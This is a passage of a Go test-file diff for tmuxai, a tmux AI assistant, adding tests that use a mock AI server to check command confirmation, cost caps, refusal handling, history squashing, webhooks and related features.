@@ -2,7 +2,18 @@ package internal
 
 import (
 	"context"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"net/http/httptest"
+	"os"
+	"path/filepath"
+	"regexp"
+	"slices"
+	"strings"
+	"sync"
 	"testing"
+	"time"
 
 	"github.com/alvinunreal/tmuxai/config"
 	"github.com/alvinunreal/tmuxai/system"
@@ -31,6 +42,116 @@ func (m *MockAiClient) ChatCompletion(ctx context.Context, messages []Message, m
 	return args.String(0), args.Error(1)
 }
 
+// mockAiServer is an OpenAI compatible test server replying with scripted responses in order
+type mockAiServer struct {
+	*httptest.Server
+	mu        sync.Mutex
+	responses []string
+	Requests  []ChatCompletionRequest
+}
+
+func newMockAiServer(t *testing.T, responses ...string) *mockAiServer {
+	t.Helper()
+	s := &mockAiServer{responses: responses}
+	s.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+		var req ChatCompletionRequest
+		_ = json.NewDecoder(r.Body).Decode(&req)
+
+		s.mu.Lock()
+		s.Requests = append(s.Requests, req)
+		reply := "<RequestAccomplished>1</RequestAccomplished>"
+		if len(s.responses) > 0 {
+			reply = s.responses[0]
+			s.responses = s.responses[1:]
+		}
+		s.mu.Unlock()
+
+		if req.Stream {
+			// one event per word, like a model streaming tokens
+			w.Header().Set("Content-Type", "text/event-stream")
+			for _, word := range strings.SplitAfter(reply, " ") {
+				chunk, _ := json.Marshal(map[string]any{"choices": []map[string]any{{"delta": map[string]string{"content": word}}}})
+				_, _ = w.Write([]byte("data: " + string(chunk) + "\n\n"))
+			}
+			_, _ = w.Write([]byte("data: [DONE]\n\n"))
+			return
+		}
+
+		w.Header().Set("Content-Type", "application/json")
+		_ = json.NewEncoder(w).Encode(ChatCompletionResponse{
+			Choices: []ChatCompletionChoice{{Message: Message{Role: "assistant", Content: reply}}},
+		})
+	}))
+	t.Cleanup(s.Close)
+	return s
+}
+
+// restoreTmuxMocks puts back the mockable tmux functions when the test ends
+func restoreTmuxMocks(t *testing.T) {
+	originalTmuxSend := system.TmuxSendCommandToPane
+	originalTmuxCapture := system.TmuxCapturePane
+	originalTmuxCurrentPaneId := system.TmuxCurrentPaneId
+	originalTmuxPanesDetails := system.TmuxPanesDetails
+	originalTmuxPaneAlternateOn := system.TmuxPaneAlternateOn
+	originalTmuxResolvePane := system.TmuxResolvePane
+	t.Cleanup(func() {
+		system.TmuxSendCommandToPane = originalTmuxSend
+		system.TmuxCapturePane = originalTmuxCapture
+		system.TmuxCurrentPaneId = originalTmuxCurrentPaneId
+		system.TmuxPanesDetails = originalTmuxPanesDetails
+		system.TmuxPaneAlternateOn = originalTmuxPaneAlternateOn
+		system.TmuxResolvePane = originalTmuxResolvePane
+	})
+}
+
+// newTestManager returns a running manager wired to the mock AI server with tmux calls mocked out
+func newTestManager(t *testing.T, server *mockAiServer) *Manager {
+	t.Helper()
+	cfg := config.DefaultConfig()
+	cfg.OpenRouter = config.OpenRouterConfig{APIKey: "test-key", BaseURL: server.URL, Model: "test-model"}
+
+	manager := &Manager{
+		Config:           cfg,
+		AiClient:         NewAiClient(cfg),
+		Status:           "running",
+		Messages:         []ChatMessage{},
+		SessionOverrides: make(map[string]interface{}),
+		ExecPane: &system.TmuxPaneDetails{
+			Id: "test-pane",
+		},
+	}
+	manager.confirmedToExec = func(command string, prompt string, edit bool) (bool, string) {
+		return true, command
+	}
+	manager.getTmuxPanesInXml = func(config *config.Config) string {
+		return "<current_tmux_window_state>mock pane content</current_tmux_window_state>"
+	}
+
+	restoreTmuxMocks(t)
+	system.TmuxSendCommandToPane = func(paneId string, command string, enter bool) error {
+		return nil
+	}
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return "", nil
+	}
+	system.TmuxCurrentPaneId = func() (string, error) {
+		return "main-pane", nil
+	}
+	system.TmuxPanesDetails = func(windowTarget string) ([]system.TmuxPaneDetails, error) {
+		return []system.TmuxPaneDetails{{Id: "main-pane"}, {Id: "test-pane"}}, nil
+	}
+	system.TmuxPaneAlternateOn = func(paneId string) (bool, error) {
+		return false, nil
+	}
+
+	originalFirstTurnFlagPath := firstTurnFlagPath
+	flagPath := filepath.Join(t.TempDir(), "first_turn_done")
+	firstTurnFlagPath = func() string { return flagPath }
+	t.Cleanup(func() { firstTurnFlagPath = originalFirstTurnFlagPath })
+
+	return manager
+}
+
 // Test: Pressing ctrl+c should cancel message processing
 func TestProcessUserMessage_EmptyStatus(t *testing.T) {
 	cfg := &config.Config{
@@ -454,3 +575,1381 @@ func TestProcessUserMessage_WatchModeNoComment(t *testing.T) {
 	_, valid3 := manager.aiFollowedGuidelines(response3)
 	assert.False(t, valid3, "Empty response (no flags, no XML tags) should fail validation when not in watch mode")
 }
+
+// Test: ExecCommand description is shown in the confirmation prompt
+func TestProcessUserMessage_ExecCommandDescription(t *testing.T) {
+	server := newMockAiServer(t,
+		`I'll list the files. <ExecCommand desc="list files">ls</ExecCommand>`,
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+
+	var prompts []string
+	manager.confirmedToExec = func(command string, prompt string, edit bool) (bool, string) {
+		prompts = append(prompts, prompt)
+		return true, command
+	}
+
+	accomplished := manager.ProcessUserMessage(context.Background(), "list files")
+
+	assert.True(t, accomplished)
+	assert.Equal(t, []string{"Execute this command (list files)?"}, prompts)
+}
+
+// Test: A turn that would exceed the session cost cap is refused before calling the AI
+func TestProcessUserMessage_SessionCostCap(t *testing.T) {
+	server := newMockAiServer(t, "<RequestAccomplished>1</RequestAccomplished>")
+	manager := newTestManager(t, server)
+	manager.Config.MaxSessionCostUSD = 1.0
+	manager.Config.Pricing = map[string]config.ModelPricing{
+		"test-model": {Prompt: 10, Completion: 30},
+	}
+	// $0.999 already spent
+	manager.Usage = Usage{PromptTokens: 99900, TotalTokens: 99900, Cost: 0.999}
+
+	accomplished := manager.ProcessUserMessage(context.Background(), "do something")
+
+	assert.False(t, accomplished)
+	assert.Empty(t, server.Requests, "AI should not be called once the cap would be exceeded")
+	assert.Equal(t, "", manager.Status, "Status should be cleared when the cap is hit")
+
+	// Raising the cap lets the turn through
+	manager.SessionOverrides["max_session_cost_usd"] = 5.0
+	manager.Status = "running"
+	accomplished = manager.ProcessUserMessage(context.Background(), "do something")
+
+	assert.True(t, accomplished)
+	assert.Len(t, server.Requests, 1)
+	assert.Greater(t, manager.Usage.PromptTokens, 99900, "Usage should accumulate after a completion")
+	assert.Greater(t, manager.Usage.Cost, 0.999)
+
+	// switching models doesn't reprice what was already spent
+	spent := manager.SessionCost()
+	manager.Config.Pricing["cheap-model"] = config.ModelPricing{}
+	manager.SessionOverrides["openrouter.model"] = "cheap-model"
+	assert.Equal(t, spent, manager.SessionCost())
+}
+
+// Test: A cost cap without pricing for the model is refused when set and reported when configured
+func TestProcessUserMessage_SessionCostCapWithoutPricing(t *testing.T) {
+	server := newMockAiServer(t, "<RequestAccomplished>1</RequestAccomplished>", "<RequestAccomplished>1</RequestAccomplished>")
+	manager := newTestManager(t, server)
+
+	output := captureOutput(t, func() { manager.ProcessSubCommand("/config set max_session_cost_usd 1") })
+	assert.Contains(t, output, "Not setting a cost cap, there is no pricing for test-model")
+	assert.NotContains(t, manager.SessionOverrides, "max_session_cost_usd")
+
+	manager.Config.MaxSessionCostUSD = 1.0
+	output = captureOutput(t, func() {
+		manager.ProcessUserMessage(context.Background(), "do something")
+		manager.Status = "running"
+		manager.ProcessUserMessage(context.Background(), "do something else")
+	})
+	assert.Equal(t, 1, strings.Count(output, "max_session_cost_usd can't be enforced, there is no pricing for test-model"))
+	assert.Len(t, server.Requests, 2)
+}
+
+// Test: With strip_pane_context, stored user messages keep only the typed text
+func TestProcessUserMessage_StripPaneContext(t *testing.T) {
+	server := newMockAiServer(t, "Sure. <RequestAccomplished>1</RequestAccomplished>")
+	manager := newTestManager(t, server)
+	manager.Config.StripPaneContext = true
+
+	manager.ProcessUserMessage(context.Background(), "what is running?")
+
+	assert.Len(t, manager.Messages, 2)
+	assert.Equal(t, "what is running?", manager.Messages[0].Content)
+	assert.NotContains(t, manager.Messages[0].Content, "current_tmux_window_state")
+
+	// The outgoing request still carries the pane context
+	sent := server.Requests[0].Messages
+	assert.Contains(t, sent[len(sent)-1].Content, "current_tmux_window_state")
+}
+
+// Test: "continue" while waiting resumes with the continuation prompt
+func TestProcessInput_ContinueWhileWaiting(t *testing.T) {
+	server := newMockAiServer(t,
+		"Should I proceed? <WaitingForUserResponse>1</WaitingForUserResponse>",
+		"Done. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	cli := NewCLIInterface(manager)
+
+	cli.processInput("clean up the build directory")
+	assert.Equal(t, "waiting", manager.Status, "Status should stay waiting after the AI asks a question")
+
+	cli.processInput("continue")
+	assert.Equal(t, "", manager.Status)
+	assert.Len(t, server.Requests, 2)
+
+	sent := server.Requests[1].Messages
+	last := sent[len(sent)-1].Content
+	assert.Contains(t, last, continuationMessage)
+	assert.NotRegexp(t, `\ncontinue$`, last, "Keyword should not be sent as new content")
+}
+
+// Test: The raw AI response is kept and shown by /raw
+func TestProcessUserMessage_LastRawResponse(t *testing.T) {
+	raw := "All good.\n```xml\n<RequestAccomplished>1</RequestAccomplished>\n```"
+	server := newMockAiServer(t, raw)
+	manager := newTestManager(t, server)
+
+	manager.ProcessUserMessage(context.Background(), "check")
+	assert.Equal(t, raw, manager.LastRawResponse)
+
+	output := captureOutput(t, func() {
+		manager.ProcessSubCommand("/raw")
+	})
+	assert.Contains(t, output, "<RequestAccomplished>1</RequestAccomplished>")
+}
+
+// Test: A disabled action is not performed and the AI is told to use another approach
+func TestProcessUserMessage_DisabledAction(t *testing.T) {
+	server := newMockAiServer(t,
+		"Writing the file. <PasteMultilineContent>line one\nline two</PasteMultilineContent>",
+		"Done another way. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.Config.DisabledActions = []string{"Paste"}
+
+	var sent []string
+	system.TmuxSendCommandToPane = func(paneId string, command string, enter bool) error {
+		sent = append(sent, command)
+		return nil
+	}
+	confirmCalls := 0
+	manager.confirmedToExec = func(command string, prompt string, edit bool) (bool, string) {
+		confirmCalls++
+		return true, command
+	}
+
+	accomplished := manager.ProcessUserMessage(context.Background(), "write notes")
+
+	assert.True(t, accomplished)
+	assert.Empty(t, sent, "Disabled paste should never reach the pane")
+	assert.Equal(t, 0, confirmCalls)
+	assert.Len(t, server.Requests, 2)
+	retry := server.Requests[1].Messages
+	assert.Contains(t, retry[len(retry)-1].Content, "The paste capability is disabled")
+}
+
+// Test: With confirm_once_per_type, only the first ExecCommand of a turn is confirmed
+func TestProcessUserMessage_ConfirmOncePerType(t *testing.T) {
+	server := newMockAiServer(t,
+		"Running both. <ExecCommand>make build</ExecCommand><ExecCommand>make test</ExecCommand>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.Config.ConfirmOncePerType = true
+
+	var confirmed []string
+	manager.confirmedToExec = func(command string, prompt string, edit bool) (bool, string) {
+		confirmed = append(confirmed, command)
+		return true, command
+	}
+
+	manager.ProcessUserMessage(context.Background(), "build and test")
+	assert.Equal(t, []string{"make build"}, confirmed, "Second command should be auto-approved")
+
+	// A new top-level turn asks again
+	server.responses = []string{"<ExecCommand>make lint</ExecCommand>", "<RequestAccomplished>1</RequestAccomplished>"}
+	cli := NewCLIInterface(manager)
+	cli.processInput("lint")
+	assert.Equal(t, []string{"make build", "make lint"}, confirmed)
+}
+
+// Test: Skipping a command declines only that one, the rest of the response still runs
+func TestProcessUserMessage_SkipCommand(t *testing.T) {
+	restoreTmuxMocks(t)
+	server := newMockAiServer(t,
+		"Cleaning and building. <ExecCommand>make clean</ExecCommand><ExecCommand>make build</ExecCommand>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.confirmedToExec = func(command string, prompt string, edit bool) (bool, string) {
+		if command == "make clean" {
+			manager.confirmSkipped = true
+			return false, ""
+		}
+		return true, command
+	}
+	var sent []string
+	system.TmuxSendCommandToPane = func(paneId string, command string, enter bool) error {
+		sent = append(sent, command)
+		return nil
+	}
+
+	output := captureOutput(t, func() {
+		manager.ProcessUserMessage(context.Background(), "build")
+	})
+	assert.Contains(t, output, "Skipped command: make clean")
+	assert.Equal(t, []string{"make build"}, sent)
+}
+
+// Test: Output of a matching command goes through the configured filter into the sent context
+func TestProcessUserMessage_OutputFilter(t *testing.T) {
+	server := newMockAiServer(t, "<RequestAccomplished>1</RequestAccomplished>")
+	manager := newTestManager(t, server)
+	manager.getTmuxPanesInXml = manager.getTmuxPanesInXmlFn
+	manager.Config.OutputFilters = []config.OutputFilter{
+		{Pattern: `^npm test`, Command: "other-filter"},
+		{Pattern: `^golangci-lint`, Command: `grep -v "level=info"`},
+	}
+	manager.ExecHistory = []CommandExecHistory{
+		{Command: "golangci-lint run", Output: "level=info msg=loading\nmain.go:3:1: unused import\nlevel=info msg=done", Code: 1},
+	}
+
+	originalRunner := runOutputFilter
+	defer func() { runOutputFilter = originalRunner }()
+	var gotFilter, gotInput string
+	runs := 0
+	runOutputFilter = func(filterCommand string, input string) (string, error) {
+		gotFilter, gotInput = filterCommand, input
+		runs++
+		return "main.go:3:1: unused import\n", nil
+	}
+
+	manager.ProcessUserMessage(context.Background(), "fix the lint errors")
+
+	assert.Equal(t, `grep -v "level=info"`, gotFilter)
+	assert.Equal(t, manager.ExecHistory[0].Output, gotInput)
+	sent := server.Requests[0].Messages
+	assert.Contains(t, sent[len(sent)-1].Content, "<last_command_filtered_output filter=\"grep -v &#34;level=info&#34;\">\nmain.go:3:1: unused import\n</last_command_filtered_output>")
+
+	// the same command isn't filtered again for the next message
+	manager.getTmuxPanesInXml(manager.Config)
+	assert.Equal(t, 1, runs)
+}
+
+// Test: In prepared mode an isolated command is wrapped in a subshell before sending
+func TestProcessUserMessage_IsolatedExecCommand(t *testing.T) {
+	server := newMockAiServer(t,
+		`Trying in a subshell. <ExecCommand isolate="true">cd /tmp && ls</ExecCommand>`,
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.ExecPane.IsPrepared = true
+	manager.ExecPane.Shell = "bash"
+
+	var sent []string
+	system.TmuxSendCommandToPane = func(paneId string, command string, enter bool) error {
+		sent = append(sent, command)
+		return nil
+	}
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return "user@host:~[10:00][0]» ( cd /tmp && ls )\nfile.txt\nuser@host:~[10:00][0]» ", nil
+	}
+
+	manager.ProcessUserMessage(context.Background(), "list /tmp")
+
+	assert.Equal(t, []string{"( cd /tmp && ls )"}, sent)
+	assert.Equal(t, "fish -c 'cd /tmp; echo \\'hi\\''", isolateCommand("fish", "cd /tmp; echo 'hi'"))
+	assert.Equal(t, "pwsh -NoProfile -Command 'Set-Location /tmp; echo ''hi'''", isolateCommand("pwsh", "Set-Location /tmp; echo 'hi'"))
+	assert.Equal(t, "nu -c r#'cd /tmp; echo 'hi''#", isolateCommand("nu", "cd /tmp; echo 'hi'"))
+	assert.Equal(t, "nu -c r##'echo '#1''##", isolateCommand("nushell", "echo '#1'"))
+}
+
+// Test: With prepared_follow_up off, a successful command in prepared mode ends the request without another AI turn
+func TestProcessUserMessage_PreparedNoFollowUp(t *testing.T) {
+	server := newMockAiServer(t,
+		"Listing. <ExecCommand>ls</ExecCommand>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.Config.PreparedFollowUp = false
+	manager.ExecPane.IsPrepared = true
+	manager.ExecPane.Shell = "bash"
+
+	output := "user@host:~[10:00][0]» ls\nfile.txt\nuser@host:~[10:00][0]» "
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return output, nil
+	}
+
+	accomplished := manager.ProcessUserMessage(context.Background(), "list files")
+
+	assert.True(t, accomplished)
+	assert.Len(t, server.Requests, 1, "Successful command shouldn't trigger a follow-up turn")
+	assert.Equal(t, "", manager.Status)
+
+	// a failing command still goes back to the AI
+	server.responses = []string{"Listing. <ExecCommand>ls missing</ExecCommand>", "<RequestAccomplished>1</RequestAccomplished>"}
+	output = "user@host:~[10:00][0]» ls missing\nls: missing: No such file\nuser@host:~[10:00][2]» "
+	manager.Status = "running"
+	manager.ProcessUserMessage(context.Background(), "list missing")
+	assert.Len(t, server.Requests, 3)
+}
+
+// Test: With require_verification, the first RequestAccomplished triggers a verification turn
+func TestProcessUserMessage_RequireVerification(t *testing.T) {
+	server := newMockAiServer(t,
+		"Service restarted. <RequestAccomplished>1</RequestAccomplished>",
+		"The pane shows nginx active (running). <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.Config.RequireVerification = true
+
+	accomplished := manager.ProcessUserMessage(context.Background(), "restart nginx")
+
+	assert.True(t, accomplished)
+	if assert.Len(t, server.Requests, 2, "A single RequestAccomplished should be verified") {
+		verify := server.Requests[1].Messages
+		assert.Contains(t, verify[len(verify)-1].Content, "verify the outcome")
+	}
+	assert.Equal(t, "", manager.Status)
+	assert.False(t, manager.verificationRequested)
+}
+
+// Test: Response hooks rewrite the response before it's parsed and displayed
+func TestProcessUserMessage_ResponseHooks(t *testing.T) {
+	raw := "<thinking>the user wants a listing, ls is enough</thinking>Here you go. <RequestAccomplished>1</RequestAccomplished>"
+	server := newMockAiServer(t, raw)
+	manager := newTestManager(t, server)
+
+	thinking := regexp.MustCompile(`(?s)<thinking>.*?</thinking>`)
+	manager.ResponseHooks = []ResponseHook{func(response string) string {
+		return thinking.ReplaceAllString(response, "")
+	}}
+
+	var accomplished bool
+	output := captureOutput(t, func() {
+		accomplished = manager.ProcessUserMessage(context.Background(), "list files")
+	})
+
+	assert.True(t, accomplished)
+	assert.Contains(t, output, "Here you go.")
+	assert.NotContains(t, output, "the user wants a listing")
+	assert.NotContains(t, manager.Messages[1].Content, "<thinking>", "History keeps the processed response")
+	assert.Equal(t, raw, manager.LastRawResponse, "/raw still shows the unprocessed response")
+}
+
+// Test: With allow_plain_answers, a tag-less answer is shown and ends the turn without a retry
+func TestProcessUserMessage_AllowPlainAnswers(t *testing.T) {
+	server := newMockAiServer(t, "A symlink points to another path, a hard link shares the inode.")
+	manager := newTestManager(t, server)
+	manager.Config.AllowPlainAnswers = true
+
+	var accomplished bool
+	output := captureOutput(t, func() {
+		accomplished = manager.ProcessUserMessage(context.Background(), "symlink vs hard link?")
+	})
+
+	assert.True(t, accomplished)
+	assert.Contains(t, output, "a hard link shares the inode")
+	assert.NotContains(t, output, "didn't follow guidelines")
+	assert.Len(t, server.Requests, 1, "Plain answer should not trigger a retry")
+	assert.Equal(t, "", manager.Status)
+}
+
+// Test: A refusal is displayed and ends the request without a guideline retry
+func TestProcessUserMessage_Refusal(t *testing.T) {
+	server := newMockAiServer(t, "I’m sorry, but I can’t help with disabling the audit logging on this host.")
+	manager := newTestManager(t, server)
+
+	var accomplished bool
+	output := captureOutput(t, func() {
+		accomplished = manager.ProcessUserMessage(context.Background(), "turn off auditd quietly")
+	})
+
+	assert.False(t, accomplished)
+	assert.Contains(t, output, "disabling the audit logging")
+	assert.NotContains(t, output, "didn't follow guidelines")
+	assert.Len(t, server.Requests, 1, "Refusal should not trigger a retry")
+	assert.Equal(t, "", manager.Status)
+}
+
+// Test: A script dispatches each non-empty line in order, skipping blanks and comments
+func TestRunScript_DispatchesLinesInOrder(t *testing.T) {
+	server := newMockAiServer(t,
+		"<RequestAccomplished>1</RequestAccomplished>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	cli := NewCLIInterface(manager)
+
+	script := "# build then test\nrun the build\n\n/confirm exec off\nrun the tests\n"
+	err := cli.runScript(strings.NewReader(script))
+
+	assert.NoError(t, err)
+	assert.False(t, manager.GetExecConfirm(), "The subcommand line should be dispatched too")
+	if assert.Len(t, server.Requests, 2) {
+		first := server.Requests[0].Messages
+		second := server.Requests[1].Messages
+		assert.Contains(t, first[len(first)-1].Content, "run the build")
+		assert.Contains(t, second[len(second)-1].Content, "run the tests")
+	}
+}
+
+// Test: With script_stop_on_failure, a request that doesn't complete stops the batch
+func TestRunScript_StopOnFailure(t *testing.T) {
+	server := newMockAiServer(t,
+		"Which branch? <WaitingForUserResponse>1</WaitingForUserResponse>",
+	)
+	manager := newTestManager(t, server)
+	manager.Config.ScriptStopOnFailure = true
+	cli := NewCLIInterface(manager)
+
+	err := cli.runScript(strings.NewReader("deploy it\nrun the tests\n"))
+
+	assert.EqualError(t, err, "script stopped at line 1: deploy it")
+	assert.Len(t, server.Requests, 1)
+	assert.Equal(t, "", manager.Status)
+}
+
+// Test: Once the turn deadline passes mid-task, the recursion stops before asking the AI again
+func TestProcessUserMessage_TurnDeadline(t *testing.T) {
+	server := newMockAiServer(t,
+		"Building first. <ExecCommand>make build</ExecCommand>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+
+	ctx, cancel := context.WithTimeout(context.Background(), 200*time.Millisecond)
+	defer cancel()
+	system.TmuxSendCommandToPane = func(paneId string, command string, enter bool) error {
+		<-ctx.Done()
+		return nil
+	}
+
+	accomplished := manager.ProcessUserMessage(ctx, "build and test")
+
+	assert.False(t, accomplished)
+	assert.Len(t, server.Requests, 1, "No AI request should be sent after the deadline")
+	assert.Equal(t, "", manager.Status)
+	assert.Equal(t, []string{"make build"}, manager.turnCommands)
+
+	manager.Config.TurnDeadlineSec = 30
+	output := captureOutput(t, func() { manager.reportTurnDeadline(1) })
+	assert.Contains(t, output, "Turn deadline of 30s reached after 1 AI response(s)")
+	assert.Contains(t, output, "make build")
+}
+
+// Test: /fullcapture makes only the next turn capture the exec pane's whole scrollback
+func TestProcessSubCommand_FullCapture(t *testing.T) {
+	server := newMockAiServer(t,
+		"<RequestAccomplished>1</RequestAccomplished>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.getTmuxPanesInXml = manager.getTmuxPanesInXmlFn
+
+	var captured []int
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		if paneId == "test-pane" {
+			captured = append(captured, maxLines)
+		}
+		return "", nil
+	}
+
+	captureOutput(t, func() { manager.ProcessSubCommand("/fullcapture") })
+	assert.True(t, manager.FullCaptureNext)
+
+	manager.ProcessUserMessage(context.Background(), "what failed earlier?")
+	manager.Status = "running"
+	manager.ProcessUserMessage(context.Background(), "and now?")
+
+	assert.Equal(t, []int{system.FullHistory, manager.GetMaxCaptureLines()}, captured)
+	assert.False(t, manager.FullCaptureNext)
+}
+
+// Test: The distro detected when preparing the exec pane is part of the context sent to the AI
+func TestProcessUserMessage_ExecPaneDistro(t *testing.T) {
+	server := newMockAiServer(t, "<RequestAccomplished>1</RequestAccomplished>")
+	manager := newTestManager(t, server)
+	system.TmuxCapturePane = func(paneId string, maxLines int) (string, error) {
+		return "NAME=\"Fedora Linux\"\nVERSION_ID=40\nID=fedora\nPRETTY_NAME=\"Fedora Linux 40 (Workstation Edition)\"", nil
+	}
+
+	manager.PrepareExecPaneWithShell("bash")
+	assert.Equal(t, "Fedora Linux 40 (Workstation Edition) (fedora)", manager.ExecPane.Distro)
+
+	manager.ProcessUserMessage(context.Background(), "install htop")
+	sent := server.Requests[0].Messages
+	assert.Contains(t, sent[len(sent)-1].Content, "The exec pane runs on Fedora Linux 40 (Workstation Edition) (fedora)")
+}
+
+// Test: A pinned message survives a squash that summarizes everything around it
+func TestSquashHistory_KeepsPinnedMessages(t *testing.T) {
+	server := newMockAiServer(t, "The user is migrating the database.")
+	manager := newTestManager(t, server)
+	manager.Messages = []ChatMessage{
+		{Content: "Migrate the orders table to postgres 16, keep downtime under a minute", FromUser: true},
+		{Content: "Starting with a dump. <ExecCommand>pg_dump orders</ExecCommand>", FromUser: false},
+		{Content: "dump done", FromUser: true},
+		{Content: "Restoring. <ExecCommand>pg_restore orders.dump</ExecCommand>", FromUser: false},
+		{Content: "what's next?", FromUser: true},
+	}
+
+	captureOutput(t, func() { manager.ProcessSubCommand("/pin 1") })
+	assert.True(t, manager.Messages[0].Pinned)
+
+	manager.squashHistory()
+
+	if assert.Len(t, manager.Messages, 2) {
+		assert.Equal(t, "Migrate the orders table to postgres 16, keep downtime under a minute", manager.Messages[0].Content)
+		assert.True(t, manager.Messages[0].Pinned)
+		assert.Contains(t, manager.Messages[1].Content, "CHAT HISTORY SUMMARY")
+	}
+	sent := server.Requests[0].Messages
+	assert.NotContains(t, sent[len(sent)-1].Content, "keep downtime under a minute", "Pinned messages aren't summarized")
+
+	captureOutput(t, func() { manager.ProcessSubCommand("/unpin 1") })
+	assert.False(t, manager.Messages[0].Pinned)
+}
+
+// Test: Commands executed in a turn are appended to command_log_file in order, after a comment for the turn
+func TestProcessInput_CommandLogFile(t *testing.T) {
+	server := newMockAiServer(t,
+		"Running both. <ExecCommand>make build</ExecCommand><ExecCommand>make test</ExecCommand>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	logPath := filepath.Join(t.TempDir(), "commands.sh")
+	manager.Config.CommandLogFile = logPath
+
+	NewCLIInterface(manager).processInput("build and test")
+
+	content, err := os.ReadFile(logPath)
+	assert.NoError(t, err)
+	lines := strings.Split(strings.TrimSpace(string(content)), "\n")
+	if assert.Len(t, lines, 3) {
+		assert.Regexp(t, `^# \d{4}-\d{2}-\d{2} \d{2}:\d{2}:\d{2} build and test$`, lines[0])
+		assert.Equal(t, "make build", lines[1])
+		assert.Equal(t, "make test", lines[2])
+	}
+}
+
+// Test: /squash now squashes immediately and /squash threshold changes what needSquash compares against
+func TestProcessSubCommand_Squash(t *testing.T) {
+	server := newMockAiServer(t, "Earlier the user listed files.")
+	manager := newTestManager(t, server)
+	manager.Messages = []ChatMessage{
+		{Content: "list files", FromUser: true},
+		{Content: "<ExecCommand>ls</ExecCommand>", FromUser: false},
+		{Content: "thanks", FromUser: true},
+	}
+
+	output := captureOutput(t, func() { manager.ProcessSubCommand("/squash") })
+	assert.Contains(t, output, "squash threshold: 80000 tokens")
+	assert.Empty(t, server.Requests, "Without arguments /squash only reports")
+
+	output = captureOutput(t, func() { manager.ProcessSubCommand("/squash now") })
+	assert.Len(t, server.Requests, 1)
+	assert.Contains(t, manager.Messages[len(manager.Messages)-1].Content, "CHAT HISTORY SUMMARY")
+	assert.Contains(t, output, "Squashed 2 messages into a summary, context ~")
+
+	assert.False(t, manager.needSquash())
+	captureOutput(t, func() { manager.ProcessSubCommand("/squash threshold 1") })
+	assert.Equal(t, 1, manager.GetSquashThreshold())
+	assert.True(t, manager.needSquash())
+
+	manager.Messages = nil
+	output = captureOutput(t, func() { manager.ProcessSubCommand("/squash now") })
+	assert.Contains(t, output, "Nothing to squash")
+	assert.Len(t, server.Requests, 1, "An empty history isn't sent to the AI")
+}
+
+// Test: The webhook is posted once when the request is accomplished, not for intermediate turns
+func TestProcessInput_Webhook(t *testing.T) {
+	server := newMockAiServer(t,
+		"Building. <ExecCommand>make build</ExecCommand>",
+		"Build finished. <RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.PaneId = "%3"
+	manager.Config.WebhookURL = "https://hooks.example.com/tmuxai"
+
+	originalPost := postWebhook
+	defer func() { postWebhook = originalPost }()
+	var urls []string
+	var payloads []webhookPayload
+	postWebhook = func(url string, body []byte) error {
+		var payload webhookPayload
+		assert.NoError(t, json.Unmarshal(body, &payload))
+		urls = append(urls, url)
+		payloads = append(payloads, payload)
+		return nil
+	}
+
+	NewCLIInterface(manager).processInput("build it")
+
+	assert.Len(t, server.Requests, 2)
+	if assert.Len(t, payloads, 1, "Only the final outcome should be posted") {
+		assert.Equal(t, "https://hooks.example.com/tmuxai", urls[0])
+		assert.Equal(t, webhookPayload{Session: "%3", Outcome: "accomplished", Request: "build it", Message: "Build finished."}, payloads[0])
+	}
+}
+
+// Test: On macOS a GNU style sed -i proposal adds a portability hint to the next turn's context
+func TestProcessUserMessage_PortabilityHint(t *testing.T) {
+	server := newMockAiServer(t,
+		"Updating the version. <ExecCommand>sed -i 's/1.0/1.1/' VERSION</ExecCommand>",
+		"<RequestAccomplished>1</RequestAccomplished>",
+	)
+	manager := newTestManager(t, server)
+	manager.ExecPane.OS = "darwin"
+
+	output := captureOutput(t, func() {
+		manager.ProcessUserMessage(context.Background(), "bump the version")
+	})
+
+	assert.Contains(t, output, "GNU specific")
+	if assert.Len(t, server.Requests, 2) {
+		first := server.Requests[0].Messages
+		followUp := server.Requests[1].Messages
+		assert.NotContains(t, first[len(first)-1].Content, "<portability_hints>")
+		assert.Contains(t, followUp[len(followUp)-1].Content, "sed -i ''")
+	}
+	assert.Nil(t, manager.portabilityHints, "Hints are sent once")
+	assert.Empty(t, manager.portabilityHintsFor([]string{"sed -i '' 's/a/b/' f", `sed -i "" -e 's/a/b/' f`, "sed -i .bak 's/a/b/' f", "sed -i '.orig' 's/a/b/' f"}),
+		"The BSD form with a suffix argument isn't flagged")
+	assert.Len(t, manager.portabilityHintsFor([]string{"sed -i -e 's/a/b/' f", "sed -n -i 's/a/b/' f"}), 2)
+
+	manager.ExecPane.OS = "Ubuntu 22.04"
+	assert.Empty(t, manager.portabilityHintsFor([]string{"sed -i 's/a/b/' f"}))
+}
+
+// Test: Switching to a model with a smaller context window lowers the squash threshold
+func TestNeedSquash_ModelContextWindow(t *testing.T) {
+	server := newMockAiServer(t)
+	manager := newTestManager(t, server)
+	manager.Config.MaxContextSize = 100000
+	manager.Config.OpenRouter.Model = "large-model"
